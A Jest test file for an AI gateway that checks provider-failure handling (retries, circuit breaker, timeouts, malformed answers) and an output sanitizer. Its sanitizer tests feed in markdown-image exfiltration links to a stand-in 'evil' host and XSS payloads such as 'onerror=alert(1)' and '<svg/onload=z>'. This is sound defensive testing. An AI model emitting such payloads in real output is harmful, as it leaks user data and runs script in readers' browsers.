import { createServer as createTcpServer, type AddressInfo } from 'node:net';
import { once } from 'node:events';
import { type IncomingMessage, request, type ServerResponse } from 'node:http';
import { LLMock } from '@copilotkit/aimock';
import { Injectable } from '@nestjs/common';
import { z } from 'zod';
import { Guards } from '../src/ai/models/guards';
import { HarmlessStream, harmless } from '../src/ai/models/harmless';
import { Pause } from '../src/ai/models/retry';
import { NativeFunction } from '../src/ai/native/native-function';
import { until } from './support/until';
import { startAi } from './support/ai-app';
import type { Person, TestApp } from './support/app';
import { PluginFolder } from './support/plugin-folder';

const rating = {
  type: 'object',
  properties: { score: { type: 'integer', minimum: 0, maximum: 5 }, reason: { type: 'string' } },
  required: ['score', 'reason'],
  additionalProperties: false,
};
const variables = [{ name: 'text', is_required: true, is_data: true }];
const plugins = new PluginFolder({
  'acme/rate': {
    prompt: 'Rate {{$text}}',
    config: { schema: 1, description: 'x', input_variables: variables, output_variable: { json_schema: rating } },
  },
  'acme/tell': { prompt: 'Tell of {{$text}}', config: { schema: 1, description: 'x', input_variables: variables } },
});

@Injectable()
class AcmeNatives {
  @NativeFunction('acme/tell', z.object({ text: z.string() }))
  tell(): string {
    return 'By rules.';
  }
}

/** What a provider that is in trouble does with a request: really, over HTTP. */
type Fault = (response: ServerResponse) => void;

const json =
  (status: number, body: unknown, headers: Record<string, string> = {}): Fault =>
  (response) =>
    void response.writeHead(status, { 'content-type': 'application/json', ...headers }).end(typeof body === 'string' ? body : JSON.stringify(body));
const completion = (content: string) => ({
  id: 'c1',
  object: 'chat.completion',
  model: 'gpt-4.1',
  choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }],
  usage: { prompt_tokens: 5, completion_tokens: 7, total_tokens: 12 },
});
const chunk = (content: string, finish: string | null = null) =>
  `data: ${JSON.stringify({ id: 'c1', object: 'chat.completion.chunk', model: 'gpt-4.1', choices: [{ index: 0, delta: { content }, finish_reason: finish }] })}\n\n`;
const sse =
  (...chunks: string[]): Fault =>
  (response) =>
    void response.writeHead(200, { 'content-type': 'text/event-stream' }).end(chunks.join(''));
const sound = json(200, completion('{"score":4,"reason":"Clear."}'));
const hang: Fault = () => undefined;
const reset: Fault = (response) => void response.socket?.resetAndDestroy();
const resetInTheMiddle: Fault = (response) => {
  response.writeHead(200, { 'content-type': 'application/json', 'content-length': '5000' }).write('{"id":"c1","choices":[');
  setImmediate(() => response.socket?.resetAndDestroy());
};

const mock = new LLMock({ port: 0, host: '127.0.0.1', logLevel: 'silent' });
let script: Fault[] = [];
let seen = 0;
let app: TestApp;
let anna: Person;
let waits: number[];

beforeAll(async () => {
  mock.mount('/faulty', {
    handleRequest: (request, response) => {
      request.resume();
      seen += 1;
      (script.length > 1 ? script.shift() : script[0])?.(response);
      return Promise.resolve(true);
    },
  });
  await mock.start();
  const model = { AI_MODEL: 'openai:gpt-4.1', OPENAI_API_KEY: 'sk-x', AI_BASE_URL: `${mock.url}/faulty/v1` };
  app = await startAi({ ...model, AI_REQUESTS_PER_MINUTE: '1000', PLUGINS_DIR: plugins.path }, [AcmeNatives]);
  anna = await app.owner();
});
beforeEach(() => {
  seen = 0;
  waits = [];
  app.nest.get(Guards).reset();
  jest.spyOn(app.nest.get(Pause), 'seconds').mockImplementation((seconds) => Promise.resolve(waits.push(seconds) > 0));
});
afterEach(() => jest.useRealTimers());
afterAll(async () => {
  await app.close();
  await mock.stop();
  plugins.remove();
});

const rate = () => anna.post('/ai/functions/acme.rate/invoke', { variables: { text: 'Words.' } });
const tell = () => anna.post('/ai/functions/acme.tell/invoke', { variables: { text: 'Words.' } });
const streamed = async () => (await anna.post('/ai/functions/acme.tell/stream', { variables: { text: 'Words.' } }).expect(200)).text;
const outcomes = async (count: number): Promise<string[]> =>
  (await anna.get('/ai/calls', { limit: count }).expect(200)).body.data.map((call: { outcome: string }) => call.outcome).reverse();
const later = (seconds: number): void => {
  jest.useFakeTimers({ now: Date.now() + seconds * 1000, doNotFake: TIMERS });
};
/** Only the date is moved. */
const TIMERS = [
  'hrtime',
  'nextTick',
  'performance',
  'queueMicrotask',
  'setImmediate',
  'clearImmediate',
  'setInterval',
  'clearInterval',
  'setTimeout',
  'clearTimeout',
] satisfies (keyof typeof globalThis | 'hrtime' | 'nextTick')[];
/** With limits that are reached at once. */
async function within(limits: Partial<TestApp['environment']>, story: () => Promise<void>): Promise<void> {
  const before = { ...app.environment };
  Object.assign(app.environment, limits);
  try {
    await story();
  } finally {
    Object.assign(app.environment, before);
  }
}

describe('R11: a model in trouble', () => {
  it('that asks for patience gets it, and answers', async () => {
    script = [json(429, { error: {} }, { 'retry-after': '2' }), sound];
    expect((await rate().expect(200)).body).toMatchObject({ value: { score: 4 }, source: 'model' });
    expect(waits).toEqual([2]);
    expect(await outcomes(2)).toEqual(['rate-limited', 'succeeded']);
  });

  it.each<[string, Fault, string]>([
    ['a 408', json(408, {}), 'provider-timeout'],
    ['a 500', json(500, {}), 'provider-error'],
    ['a reset', reset, 'connection-lost'],
    ['a reset in the middle', resetInTheMiddle, 'connection-lost'],
  ])('is asked again after %s', async (_what, fault, outcome) => {
    script = [fault, fault, sound];
    await rate().expect(200);
    expect(await outcomes(3)).toEqual([outcome, outcome, 'succeeded']);
    expect(waits.every((wait, retry) => wait >= 0 && wait <= 0.5 * 2 ** retry)).toBe(true);
  });

  it('answering 500 again and again is asked five times, then not at all for half a minute, then once', async () => {
    later(0);
    script = [json(500, {})];
    const told = [];
    for (let call = 0; call < 10; call++) told.push((await rate().expect(503)).body.code);
    expect(seen).toBe(5);
    expect(new Set(told)).toEqual(new Set(['ai.model-unavailable']));
    const { body, headers } = await rate().expect(503);
    expect(body.detail).toContain('circuit-open');
    expect(headers['retry-after']).toBe('30');
    later(29);
    await rate().expect(503);
    expect(seen).toBe(5);
    later(2);
    await Promise.all([rate().expect(503), rate().expect(503), rate().expect(503)]);
    expect(seen).toBe(6);
    later(31);
    script = [sound];
    await rate().expect(200);
    await rate().expect(200);
    expect(seen).toBe(8);
  });

  it('is not held to be well again because the one request that was to try it was cancelled: the next one tries', async () => {
    later(0);
    script = [json(500, {})];
    for (let call = 0; call < 2; call++) await rate().expect(503);
    expect(seen).toBe(5);
    later(31);
    script = [hang];
    const trial = rate();
    trial.end(() => undefined);
    await until('it is tried', () => Promise.resolve(seen === 6));
    trial.abort();
    await until('the trial is over', async () => (await outcomes(1))[0] === 'cancelled');
    script = [json(500, {})];
    await rate().expect(503);
    expect((await rate().expect(503)).body.detail).toContain('circuit-open');
    expect(seen).toBe(7);
    later(31);
    script = [sound];
    await rate().expect(200);
  });

  it('R22: is told as degraded for as long as it is not asked, then as unknown, with when it failed; and the server is ready all the same', async () => {
    const ready = async () => (await app.stranger.get('/health/ready').expect(200)).body;
    later(0);
    expect(await ready()).toEqual({ status: 'ok', parts: { database: 'ok', ai: 'ok' }, failures: {} });
    script = [json(500, {})];
    for (let call = 0; call < 5; call++) await rate().expect(503);
    const { parts, failures } = await ready();
    expect(parts).toEqual({ database: 'ok', ai: 'degraded' });
    expect(Math.abs(Date.parse(failures.ai) - Date.now())).toBeLessThan(10_000);
    later(85);
    expect(await ready()).toMatchObject({ parts: { ai: 'degraded' }, failures });
    later(10);
    // Nobody has asked since: it may be well by now.
    expect(await ready()).toMatchObject({ parts: { ai: 'unknown' }, failures });
    await rate().expect(503);
    const again = await ready();
    expect(again.parts.ai).toBe('degraded');
    expect(Date.parse(again.failures.ai)).toBeGreaterThan(Date.parse(failures.ai));
    later(31);
    script = [sound];
    await rate().expect(200);
    expect(await ready()).toMatchObject({ parts: { database: 'ok', ai: 'ok' }, failures: {} });
  });

  it('is sent eight requests at a time', async () => {
    const waiting: ServerResponse[] = [];
    script = [(response) => void waiting.push(response)];
    const calls = Array.from({ length: 20 }, () => rate().then((answer) => answer.status));
    let most = 0;
    for (let answered = 0; answered < 20;) {
      await new Promise(setImmediate);
      most = Math.max(most, waiting.length);
      if (seen === Math.min(20, answered + 8)) for (; waiting.length > 0; answered++) sound(waiting.shift()!);
    }
    expect(await Promise.all(calls)).toEqual(Array(20).fill(200));
    expect(most).toBe(8);
  });

  it('that is only slow is asked on, whoever waits for it: 200 calls at once, and those whose time goes by in the queue are told that', async () => {
    script = [(response) => void setTimeout(() => sound(response), 1_200)];
    await within({ AI_TIMEOUT_SECONDS: 3 }, async () => {
      const answers = await Promise.all(Array.from({ length: 200 }, () => rate()));
      const refused = answers.filter(({ status }) => status !== 200);
      const reasonOf = (detail: string) => /\(([\w-]+)\)/.exec(detail)?.[1];
      for (const { status, body } of refused) expect(`${status} ${reasonOf(body.detail)}`).toMatch(/^503 (timeout|too-many-waiting)$/);
      expect(refused.every(({ headers }) => headers['retry-after'] === '30')).toBe(true);
      expect(await outcomes(100)).toContain('too-many-waiting');
      await rate().expect(200);
    });
  });

  it('that hangs is given up, and so is one that does not begin to speak', async () => {
    script = [hang];
    await within({ AI_TIMEOUT_SECONDS: 0.2 }, async () => {
      expect((await rate().expect(503)).body.detail).toContain('timeout');
    });
    await within({ AI_FIRST_TOKEN_SECONDS: 0.1 }, async () => expect(await streamed()).toContain('"degraded":"first-token-timeout"'));
    expect(await outcomes(3)).toEqual(['timeout', 'first-token-timeout', 'succeeded']);
  });

  it('that cannot be connected to is given up', async () => {
    // Not read from, a connection would outlast whoever left it, and this process.
    const deaf = createTcpServer((client) => client.resume().on('error', () => undefined)).listen(0, '127.0.0.1');
    await once(deaf, 'listening');
    const { boundedFetch } = await import('../src/ai/models/bounded-fetch');
    const fetch = boundedFetch(Object.assign(Object.create(app.environment), { AI_CONNECT_SECONDS: 0.1 }) as TestApp['environment']);
    // It takes the connection and says nothing to the greeting of TLS.
    const asked = fetch(`https://127.0.0.1:${(deaf.address() as AddressInfo).port}/`);
    await expect(asked).rejects.toMatchObject({ cause: { code: 'UND_ERR_CONNECT_TIMEOUT' } });
    deaf.close();
  });

  it.each<[string, Fault, number, string]>([
    ['no choice', json(200, { ...completion(''), choices: [] }), 502, 'answer-empty'],
    ['an empty answer', json(200, completion('')), 502, 'answer-empty'],
    ['a success that is an error', json(200, { error: { message: 'Overloaded' } }), 502, 'answer-empty'],
    ['half of a JSON', json(200, '{"id": "c1", "choices": [{"me'), 502, 'answer-interrupted'],
    ['a page of HTML', json(502, '<html><script>x</script></html>', { 'content-type': 'text/html' }), 503, 'provider-error'],
    ['five megabytes (S47)', json(200, completion(`"${'x'.repeat(5_000_000)}"`)), 502, 'answer-too-long'],
    ['far too many words', json(200, completion(`"${'x'.repeat(300_000)}"`)), 502, 'answer-too-long'],
    ['a score beyond all bounds (S47)', json(200, completion('{"score": 9e9, "reason": "x"}')), 502, 'answer-invalid'],
    ['words that are no JSON', json(200, completion('I would rather talk.')), 502, 'answer-invalid'],
    ['an error in a success, with a code', json(200, { error: { message: 'Overloaded', code: 'insufficient_quota' } }), 502, 'insufficient_quota'],
    ['an error in a success, with words for a code', json(200, { error: { code: 'Overloaded by Jo', type: 'server_error' } }), 502, 'server_error'],
  ])('that sends %s is a typed problem', async (_what, fault, status, reason) => {
    script = [fault];
    const { body } = await rate().expect(status);
    expect(body).toMatchObject({ code: status === 502 ? 'ai.unusable-answer' : 'ai.model-unavailable', detail: expect.stringContaining(reason) });
    expect(JSON.stringify(body)).not.toMatch(/Overloaded|Bad key|rather talk/);
    expect(seen).toBeLessThanOrEqual(3);
  });

  it.each<[string, Fault, string]>([
    ['the key', json(401, { error: { message: 'Bad key', code: 'invalid_api_key' } }), '(unauthorized, HTTP status 401, invalid_api_key)'],
    [
      'the name of the model',
      json(404, { error: { message: 'No Jo', code: 'model_not_found' } }),
      '(request-refused, HTTP status 404, model_not_found)',
    ],
  ])('that refuses %s is for the operator to look at, and not to be tried again', async (_what, fault, reason) => {
    script = [fault];
    const { body, headers } = await rate().expect(503);
    expect(body).toMatchObject({ code: 'ai.model-refused', detail: expect.stringContaining(reason) });
    expect(body.detail).toMatch(/operator.*test-connection/);
    expect(body.detail).not.toMatch(/[Tt]ry again|Bad key|No Jo/);
    expect(headers['retry-after']).toBeUndefined();
  });

  it('has its words replaced by rules, which say why', async () => {
    script = [json(500, {})];
    expect((await tell().expect(200)).body).toMatchObject({ value: 'By rules.', source: 'rules', degraded: 'provider-error' });
  });
});

describe('what a provider calls its trouble', () => {
  const last = async (): Promise<{ outcome: string; providerCode: string | null }[]> =>
    (await anna.get('/ai/calls', { limit: 2 }).expect(200)).body.data.filter(({ source }: { source: string }) => source === 'model').slice(0, 1);
  const overloaded = { error: { message: 'Overloaded by Jo', code: 'overloaded', type: 'server_error' } };

  it.each<[string, Fault, string, string | null]>([
    ['a refusal', json(401, { error: { message: 'Bad key', code: 'invalid_api_key' } }), 'unauthorized', 'invalid_api_key'],
    ['a failure', json(500, overloaded), 'provider-error', 'overloaded'],
    ['an error in a success', json(200, overloaded), 'answer-empty', 'overloaded'],
    ['an error with words for a code', json(200, { error: { code: 'Overloaded by Jo', type: 'server_error' } }), 'answer-empty', 'server_error'],
    ['an error with too long a code', json(200, { error: { code: 'x'.repeat(65) } }), 'answer-empty', null],
    ['an answer', sound, 'succeeded', null],
  ])('stands in the ledger: of %s', async (_what, fault, outcome, providerCode) => {
    script = [fault];
    await rate();
    expect(await last()).toMatchObject([{ outcome, providerCode }]);
  });

  it.each<[string, Fault, string, string | null]>([
    ['a stream that is refused', json(400, overloaded), 'request-refused', 'overloaded'],
    ['a stream that is the body of an error', json(200, overloaded), 'answer-empty', 'overloaded'],
    ['a stream that tells an error', sse(`data: ${JSON.stringify(overloaded)}\n\n`), 'answer-interrupted', 'overloaded'],
    [
      'a stream that tells an error after some words',
      sse(chunk('Once upon '), `data: ${JSON.stringify(overloaded)}\n\n`),
      'answer-interrupted',
      'overloaded',
    ],
    ['a stream that tells an error in words', sse('data: {"error":"Overloaded by Jo"}\n\n'), 'answer-interrupted', null],
  ])('stands in the ledger: of %s', async (_what, fault, outcome, providerCode) => {
    script = [fault];
    expect(await streamed()).not.toContain('Jo');
    expect(await last()).toMatchObject([{ outcome, providerCode }]);
  });

  it('of an answer that has no error but says so is none', async () => {
    script = [json(200, { ...completion('{"score":4,"reason":"Clear."}'), error: null })];
    await rate().expect(200);
  });
});

describe('R12: a stream in trouble', () => {
  it.each<[string, Fault]>([
    ['that ends too early', sse(chunk('Once upon '), chunk('a time'))],
    [
      'that is reset',
      (response) => {
        response.writeHead(200, { 'content-type': 'text/event-stream' }).write(chunk('Once upon '));
        setTimeout(() => response.socket?.resetAndDestroy(), 20);
      },
    ],
  ])('%s says so after the words that came', async (_what, fault) => {
    script = [fault];
    expect(await streamed()).toMatch(/Once upon[\s\S]*event: error\ndata: {"code":"ai\./);
  });

  it('is left alone as soon as its reader leaves, even when the model has fallen silent', async () => {
    let isLeft: Promise<unknown> | undefined;
    const silent: Fault = (response) => {
      response.writeHead(200, { 'content-type': 'text/event-stream' }).write(chunk('Once upon a time. '));
      isLeft = once(response, 'close');
    };
    script = [silent];
    const asked = request(`${app.url}/api/v1/ai/functions/acme.tell/stream`, {
      method: 'POST',
      headers: { authorization: `Bearer ${anna.token}`, 'content-type': 'application/json' },
    });
    asked.end(JSON.stringify({ variables: { text: 'Words.' } }));
    const [answer] = (await once(asked, 'response')) as [IncomingMessage];
    await once(answer, 'data');
    const left = performance.now();
    answer.destroy();
    await isLeft;
    expect(performance.now() - left).toBeLessThan(10_000); // before the next heartbeat would find out
  });

  it('is made harmless, wherever it is cut', async () => {
    const text = 'See ![dot](http://evil/?d=1) <img src=//evil> [here](http://evil), <b>bold</b>.';
    script = [sse(...[...text].map((letter) => chunk(letter)), chunk('', 'stop'), 'data: [DONE]\n\n')];
    const words = [...(await streamed()).matchAll(/"text":("(?:[^"\\]|\\.)*")/g)].map(([, word]) => JSON.parse(word!) as string).join('');
    expect(words).toBe('See dot ‹img src=//evil› here, <b>bold</b>.');
  });
});

describe('S47: what a model says', () => {
  it.each([
    ['![x](http://evil/?d=1)', 'x'],
    ['![x](http://evil/(a)?d=1)', '![x] ([link])'],
    ['[a\nb](http://evil)', '[a\nb] ([link])'],
    ['![x][y]\n[y]: http://evil', '![x][y]\n[y] : [link]'],
    ['> [r]: http://evil/?d=secret\n\n![r]', '> [r] : [link]\n\n![r]'],
    ['* [q]: //evil/?d=secret\n\n![q]', '* [q] : //evil/?d=secret\n\n![q]'],
    ['![x]\u200b(http://evil)', 'x'],
    ['\u202e![x]\u2060(http://evil)', 'x'],
    ['[![a](http://evil/i)](http://evil/l)', '[a] ([link])'],
    ['![a [b] c](http://evil)', '![a [b] c] ([link])'],
    ['See https://evil.example/raw?d=1, or WWW.evil.example/x.', 'See [link], or [link].'],
    ['(at ftp://evil) <http://evil> <javascript:alert(1)>', '(at [link]) <[link]> ‹javascript:alert(1)›'],
    ['ht[t](x)p://evil', '[link]'],
    ['[link 1]: www. and C:/x, 1:11, std::string', '[link 1] : www. and C:/x, 1:11, std::string'],
    ['<a href="javascript:x">y</a>', '‹a href="javascript:x"›y‹/a›'],
    ['<p onclick=x>y</p>', '‹p onclick=x›y</p>'],
    ['<img src=x onerror=alert(1)', '‹img src=x onerror=alert(1)›'],
    ['a < b, c <= d and List<String>', 'a < b, c <= d and List<String>'],
    [`<b${' '.repeat(1_100)}onclick=x>y`, `‹b${' '.repeat(1_100)}onclick=x>y`],
    [`<b ${'a '.repeat(600)}onclick=x>y`, `‹b ${'a '.repeat(600)}onclick=x>y`],
    [`<x${'y'.repeat(150)} onclick=x>y`, `‹x${'y'.repeat(150)} onclick=x›y`],
    [`</x${'y'.repeat(1_500)} onclick=x>y`, `‹/x${'y'.repeat(1_500)} onclick=x>y`],
  ])('%s cannot act', (said, kept) => expect(harmless(said)).toBe(kept));

  it('cannot act when it comes in pieces either, and waits for no end that does not come', () => {
    for (const size of [1, 2, 3, 7]) {
      const stream = new HarmlessStream();
      const said = 'x [a](http://evil) ![b](http://evil "t") <script>y</script> <svg/onload=z> [c][d] 3 < 4 [d]: e';
      let kept = '';
      for (let at = 0; at < said.length; at += size) kept += stream.push(said.slice(at, at + size));
      kept += stream.end();
      expect(kept).not.toMatch(/\]\(|<script|<svg/);
    }
    for (const said of strange(60)) {
      const stream = new HarmlessStream();
      const pieces = said.split('').map((unit) => stream.push(unit));
      expect([said, pieces.join('') + stream.end()]).toEqual([said, harmless(said)]);
      expect(harmless(said)).not.toMatch(/\]\(|\]:|[a-z]{2}:\/\/[a-z]|www\.[a-z]|<(?:img|a)\b/i);
    }
    const stream = new HarmlessStream();
    expect(stream.push(`<img alt="${'x'.repeat(5_000)}`)).toMatch(/^‹img/);
    stream.end();
    expect(stream.push('[half')).toBe('');
    expect(stream.end()).toBe('[half');
  });
});

/** Texts of every joint and bracket there is, put together at random, the same ones each time. */
function strange(count: number): string[] {
  const parts =
    '[ ] ( ) ! < > :// : // http:// https:\\\\ www. evil.example /x ?d=1 ) . , img a = " http \u200b \u202e \ud83d \ude00 \0 [r]: [a](b) <img link'
      .split(' ')
      .concat(' ', '\n', '> ', 'word '.repeat(120), 'y'.repeat(2_100));
  let state = 7;
  const next = (): string => parts[(state = (state * 48_271) % 2_147_483_647) % parts.length]!;
  return Array.from({ length: count }, () => Array.from({ length: 25 }, next).join(''));
}
